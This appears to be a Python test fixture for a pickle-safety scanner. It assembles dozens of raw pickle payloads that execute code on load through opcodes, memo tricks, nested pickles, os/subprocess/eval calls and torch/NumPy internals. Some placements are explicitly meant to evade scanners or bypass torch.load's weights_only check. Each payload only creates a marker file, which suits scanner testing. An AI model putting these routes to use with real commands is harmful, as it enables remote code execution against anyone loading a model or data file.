"""Every way by which a pickle is known to run code, as the opcodes that leave one value on the stack.

Each would create a marker file if it were unpickled; `DEAD` lists those that nothing here would run, because they need
another operating system or a package, or because today's Python refuses them.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

Route = Callable[[str], bytes]
"""Takes the marker's path."""


def text(value: str) -> bytes:
    """A string."""
    return b"V" + value.replace("\\", r"\u005c").replace("\n", r"\u000a").encode("raw_unicode_escape") + b"\n"


def named(module: str, name: str) -> bytes:
    """A global."""
    return f"c{module}\n{name}\n".encode()


def short(value: str) -> bytes:
    """A string of protocol 4."""
    return b"\x8c" + struct.pack("<B", len(value)) + value.encode()


def pair(*items: bytes) -> bytes:
    """A tuple."""
    return b"(" + b"".join(items) + b"t"


def call(function: bytes, *args: bytes) -> bytes:
    """A call, by REDUCE."""
    return function + pair(*args) + b"R"


def touch(mark: str) -> bytes:
    """A shell command that makes the marker."""
    return text(f"touch {mark}")


def script(mark: str) -> str:
    """A Python statement that makes the marker."""
    return f"open({mark!r}, 'w').close()"


SYSTEM = named("os", "system")
EMPTY = b")"


OPCODES: dict[str, Route] = {
    "GLOBAL and REDUCE": lambda m: call(SYSTEM, touch(m)),
    "STACK_GLOBAL": lambda m: call(short("os") + short("system") + b"\x93", touch(m)),
    "INST": lambda m: b"(" + touch(m) + b"ios\nsystem\n",
    "OBJ": lambda m: b"(" + SYSTEM + touch(m) + b"o",
    "NEWOBJ": lambda m: named("builtins", "bytes") + pair(
        named("builtins", "map") + pair(SYSTEM, b"](" + touch(m) + b"e") + b"\x81") + b"\x81",
    "NEWOBJ_EX": lambda m: named("builtins", "bytes") + pair(
        named("builtins", "map") + pair(SYSTEM, b"](" + touch(m) + b"e") + b"}\x92") + b"}\x92",
    "NEWOBJ of a function": lambda m: SYSTEM + pair(touch(m)) + b"\x81",
    "BUILD with __setstate__": lambda m: (
        named("types", "SimpleNamespace") + EMPTY + b"R}" + text("__setstate__") + SYSTEM + b"sb" + touch(m) + b"b"),
    "BUILD of slots": lambda m: (
        named("types", "SimpleNamespace") + EMPTY + b"RN}" + text("__setstate__") + SYSTEM + b"s\x86b"
        + touch(m) + b"b"),
    "EXT1": lambda m: b"\x82\x01" + pair(touch(m)) + b"R",
    "EXT2": lambda m: b"\x83\x01\x02" + pair(touch(m)) + b"R",
    "EXT4": lambda m: b"\x84\x01\x02\x03\x00" + pair(touch(m)) + b"R",
    "EXT registered by the file": lambda m: (
        call(named("copyreg", "add_extension"), text("os"), text("system"), b"J\x39\x30\x00\x00") + b"0"
        + b"\x84\x39\x30\x00\x00" + pair(touch(m)) + b"R"),
    "APPENDS to a class": lambda m: (
        named("types", "SimpleNamespace") + EMPTY + b"R}" + text("append") + SYSTEM + b"sb" + touch(m) + b"a"),
    "SETITEM of a class": lambda m: (
        call(named("builtins", "type"), text("D"), pair(named("builtins", "dict")),
             b"}" + text("__setitem__") + call(named("functools", "partial"), named("io", "open")) + b"s")
        + EMPTY + b"R" + text(m) + text("w") + b"s"),
    "FRAME around it": lambda m: (
        b"\x95" + struct.pack("<Q", len(call(SYSTEM, touch(m)))) + call(SYSTEM, touch(m))),
}  # fmt: skip
"""One route for each opcode that imports, calls or sets."""


def run(mark: str) -> bytes:
    """The shell command, run."""
    return call(SYSTEM, touch(mark))


SHAPES: dict[str, Route] = {
    "popped": lambda m: run(m) + b"0N",
    "popped with a mark": lambda m: b"(" + run(m) + b"1N",
    "key of a dict": lambda m: b"}" + run(m) + b"K\x01s",
    "item of a set": lambda m: b"\x8f(" + run(m) + b"\x90",
    "item of a frozenset": lambda m: b"(" + run(m) + b"\x91",
    "in a list in a tuple": lambda m: b"](" + run(m) + b"e\x85",
    "argument of data": lambda m: call(named("collections", "OrderedDict"), b"]" + run(m) + b"K\x01\x86a"),
    "state of an OrderedDict": lambda m: named("collections", "OrderedDict") + EMPTY + b"R" + run(m) + b"b",
    "memo: stored and fetched": lambda m: SYSTEM + b"q\x07\x30" + b"h\x07" + pair(touch(m)) + b"R",
    "memo: text index": lambda m: SYSTEM + b"p77\n0g77\n" + pair(touch(m)) + b"R",
    "memo: one place used twice": lambda m: (
        named("collections", "OrderedDict") + b"q\x070" + SYSTEM + b"q\x070h\x07" + pair(touch(m)) + b"R"),
    "memo: name built of pieces": lambda m: (
        short("os") + b"q\x090" + short("system") + b"q\x0a0h\x09h\x0a\x93" + pair(touch(m)) + b"R"),
    "DUP of the function": lambda m: SYSTEM + b"2" + pair(touch(m)) + b"R\x86",
    "behind a second protocol": lambda m: b"\x80\x05" + run(m),
    "names of Python 2": lambda m: call(named("__builtin__", "eval"), text(f"[{script(m)}]")),
    "dotted name": lambda m: call(b"\x80\x04" + short("subprocess") + short("os.system") + b"\x93", touch(m)),
    "name with a newline": lambda m: call(short("os\n") + short("system") + b"\x93", touch(m)),
    "name of a submodule by attribute": lambda m: call(
        b"\x80\x04" + short("torch.serialization") + short("os.system") + b"\x93",
                                                       touch(m)),
    "defaultdict's factory": lambda m: call(
        named("operator", "getitem"),
        call(named("collections", "defaultdict"), call(named("functools", "partial"), SYSTEM, touch(m))), b"K\x01"),
    "sorted by key": lambda m: call(named("builtins", "list"), call(named("builtins", "map"), SYSTEM,
                                                                   b"](" + touch(m) + b"e")),
    "max by key": lambda m: (
        call(named("builtins", "list"), call(named("itertools", "starmap"), SYSTEM, b"]" + pair(touch(m)) + b"a"))),
}  # fmt: skip
"""The same call at places where a scanner does not look."""


def attribute(owner: bytes, name: str) -> bytes:
    """What `getattr` gives."""
    return call(named("builtins", "getattr"), owner, text(name))


def module(name: str) -> bytes:
    """What `import_module` gives."""
    return call(named("importlib", "import_module"), text(name))


def python(mark: str) -> bytes:
    """A text for `exec`."""
    return text(script(mark))


STANDARD: dict[str, Route] = {
    "eval": lambda m: call(named("builtins", "eval"), python(m)),
    "exec": lambda m: call(named("builtins", "exec"), python(m)),
    "exec of compile": lambda m: call(
        named("builtins", "exec"), call(named("builtins", "compile"), python(m), text("x"), text("exec"))),
    "open": lambda m: call(named("builtins", "open"), text(m), text("w")),
    "io.open": lambda m: call(named("io", "open"), text(m), text("w")),
    "getattr of an import": lambda m: call(attribute(module("os"), "system"), touch(m)),
    "getattr of __import__": lambda m: call(
        attribute(call(named("builtins", "__import__"), text("os")), "system"), touch(m)),
    "getattr of subclasses": lambda m: call(
        attribute(attribute(named("builtins", "object"), "__init_subclass__"), "__call__")) + b"0" + call(
            SYSTEM, touch(m)),
    "posix": lambda m: call(named("posix", "system"), touch(m)),
    "nt": lambda m: call(named("nt", "system"), touch(m)),
    "os.popen": lambda m: attribute(call(named("os", "popen"), touch(m)), "read") + EMPTY + b"R",
    "os.spawnlp": lambda m: call(named("os", "spawnlp"), b"K\x00", text("touch"), text("touch"), text(m)),
    "os.mkdir": lambda m: call(named("os", "mkdir"), text(m)),
    "os.open": lambda m: call(named("os", "open"), text(m), b"K\x41"),
    "shutil": lambda m: call(named("shutil", "copy"), text("/dev/null"), text(m)),
    "pathlib": lambda m: call(attribute(call(named("pathlib", "Path"), text(m)), "touch")),
    "subprocess.run": lambda m: call(named("subprocess", "run"), b"](" + text("touch") + text(m) + b"e"),
    "subprocess.Popen": lambda m: attribute(
        call(named("subprocess", "Popen"), b"](" + text("touch") + text(m) + b"e"), "wait") + EMPTY + b"R",
    "subprocess.getoutput": lambda m: call(named("subprocess", "getoutput"), touch(m)),
    "commands of Python 2": lambda m: call(named("commands", "getoutput"), touch(m)),
    "pty": lambda m: call(named("pty", "spawn"), b"](" + text("touch") + text(m) + b"e"),
    "runpy": lambda m: (call(named("builtins", "print"), python(m)) + b"0" + call(
        attribute(call(named("pathlib", "Path"), text(f"{m}.py")), "write_text"), python(m)) + b"0" + call(
        named("runpy", "run_path"), text(f"{m}.py"))),
    "code": lambda m: attribute(call(named("code", "InteractiveInterpreter")), "runcode") + pair(python(m)) + b"R",
    "timeit": lambda m: call(named("timeit", "timeit"), python(m), text("pass"), named("time", "perf_counter"),
                             b"K\x01"),
    "cProfile": lambda m: call(named("cProfile", "run"), python(m), text("/dev/null")),
    "bdb": lambda m: attribute(call(named("bdb", "Bdb")), "run") + pair(python(m)) + b"R",
    "trace": lambda m: attribute(call(named("trace", "Trace"), b"K\x00", b"K\x00"), "run") + pair(python(m)) + b"R",
    "ctypes": lambda m: call(attribute(call(named("ctypes", "CDLL"), b"N"), "system"),
                             b"C" + struct.pack("<B", len(f"touch {m}")) + f"touch {m}".encode()),
    "webbrowser": lambda m: attribute(
        call(named("webbrowser", "GenericBrowser"), b"](" + text("touch") + text("%s") + b"e"), "open")
        + pair(text(m)) + b"R",
    "functools.partial": lambda m: call(named("functools", "partial"), SYSTEM, touch(m)) + EMPTY + b"R",
    "functools.reduce": lambda m: call(named("functools", "reduce"), named("builtins", "open"),
                                       b"](" + text(m) + text("w") + b"e"),
    "operator.attrgetter": lambda m: call(
        call(named("operator", "attrgetter"), text("os.system")) + pair(module("subprocess")) + b"R", touch(m)),
    "operator.methodcaller": lambda m: call(named("operator", "methodcaller"), text("system"), touch(m))
    + pair(module("os")) + b"R",
    "operator.call": lambda m: call(named("operator", "call"), SYSTEM, touch(m)),
    "types.FunctionType": lambda m: call(
        call(named("types", "FunctionType"), call(named("builtins", "compile"), python(m), text("x"), text("exec")),
             b"}" + text("__builtins__") + call(named("builtins", "__import__"), text("builtins")) + b"s")),
    "logging": lambda m: call(named("logging", "FileHandler"), text(m)),
    "tempfile": lambda m: call(named("tempfile", "mkdtemp"), text(""), text("m"), text(m.rpartition("/")[0])),
    "sqlite3": lambda m: call(
        attribute(call(named("sqlite3", "connect"), text(m)), "execute"), text("create table t (x)")),
    "a pickle in the pickle": lambda m: call(named("pickle", "loads"), raw(run(m) + b".")),
    "marshal and a pickle": lambda m: call(named("_pickle", "loads"), call(
        named("_codecs", "encode"), text((call(SYSTEM, touch(m)) + b".").decode()), text("latin1"))),
    "threading": lambda m: attribute(
        call(named("threading", "Timer"), b"K\x00", SYSTEM, b"](" + touch(m) + b"e"), "run") + EMPTY + b"R",
    "multiprocessing": lambda m: attribute(
        call(named("multiprocessing.pool", "ThreadPool"), b"K\x01"), "apply") + pair(SYSTEM, pair(touch(m))) + b"R",
    "dynamic class": lambda m: call(named("builtins", "type"), text("C"), EMPTY, b"}" + text("__del__") + call(
        named("functools", "partial"), SYSTEM, touch(m)) + b"s") + EMPTY + b"R0N",
}  # fmt: skip
"""The functions of the standard library that run their arguments."""


def raw(content: bytes) -> bytes:
    """Bytes."""
    return b"B" + struct.pack("<I", len(content)) + content


def stream(mark: str) -> bytes:
    """A file object with a pickle in it."""
    return call(named("io", "BytesIO"), raw(run(mark) + b"."))


LIBRARIES: dict[str, Route] = {
    "torch.load in the file": lambda m: call(
        named("functools", "partial"), named("torch", "load")) + pair(
            named("torch", "load"), EMPTY, b"}" + text("weights_only") + b"\x89s", b"N") + b"b"
        + pair(stream(m)) + b"R",
    "torch.load without its check": lambda m: call(named("torch.serialization", "_legacy_load"), stream(m), b"N",
                                                   call(named("builtins", "__import__"), text("pickle"))),
    "torch's list of safe globals": lambda m: call(
        named("torch.serialization", "add_safe_globals"), b"]" + SYSTEM + b"a") + b"0" + call(SYSTEM, touch(m)),
    "torch.utils.collect_env": lambda m: call(named("torch.utils.collect_env", "run"), touch(m)),
    "torch.fx": lambda m: call(named("torch.fx.graph_module", "_exec_with_source"), text(script(m)), b"}"),
    "torch.hub's import": lambda m: (
        call(call(named("builtins", "getattr"), call(named("pathlib", "Path"), text(f"{m}.py")), text("write_text")),
             text(script(m))) + b"0" + call(named("torch.hub", "_import_module"), text("x"), text(f"{m}.py"))),
    "torch.save": lambda m: call(named("torch", "save"), b"N", text(m)),
    "torch's storage from a file": lambda m: call(
        call(named("builtins", "getattr"), named("torch", "UntypedStorage"), text("from_file")),
        text(m), b"\x88", b"K\x10"),
    "torch.from_file": lambda m: call(
        call(named("functools", "partial"), named("torch", "from_file"), text(m), b"\x88"), b"K\x10"),
    "torch's rebuild of a type": lambda m: call(
        named("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, named("torch", "Tensor"), pair(touch(m)), b"N"),
    "torch's rebuild of a parameter": lambda m: call(
        named("torch._utils", "_rebuild_parameter"), call(SYSTEM, touch(m)), b"\x88", b"N"),
    "torch's rebuild of a wrapper": lambda m: call(
        named("torch._utils", "_rebuild_wrapper_subclass"), call(SYSTEM, touch(m))),
    "hooks of a tensor": lambda m: call(
        named("torch._utils", "_rebuild_tensor_v2"), call(SYSTEM, touch(m)), b"K\x00", EMPTY, EMPTY, b"\x89",
        call(named("collections", "OrderedDict"))),
    "torch's test tools": lambda m: call(
        b"\x80\x04" + short("torch.utils.cpp_extension") + short("subprocess.getoutput") + b"\x93", touch(m)),
    "numpy.load": lambda m: call(
        named("numpy", "load"), stream(m), b"N", b"\x88"),
    "numpy.save": lambda m: call(named("numpy", "savetxt"), text(m), b"](K\x01e"),
    "numpy.memmap": lambda m: call(named("numpy", "memmap"), text(m), text("uint8"), text("w+"), b"K\x00", b"K\x08"),
    "numpy's old runstring": lambda m: call(
        named("numpy.testing._private.utils", "runstring"), text(script(m)), b"}"),
    "numpy.apply": lambda m: call(
        call(named("numpy", "vectorize"), named("builtins", "exec")), text(script(m))),
    "numpy's array of objects": lambda m: call(
        named("numpy.core.multiarray", "_reconstruct"), call(SYSTEM, touch(m)), pair(b"K\x00"), b"C\x01b"),
    "hydra": lambda m: call(
        named("hydra.utils", "instantiate"),
        b"}(" + text("_target_") + text("builtins.open") + text("_args_") + b"](" + text(m) + text("w") + b"eu"),
}  # fmt: skip
"""The same with what torch and NumPy bring along."""


ROUTES: dict[str, Route] = {**OPCODES, **SHAPES, **STANDARD, **LIBRARIES}

DEAD = frozenset({"NEWOBJ of a function", "EXT1", "EXT2", "EXT4", "name with a newline", "nt"})
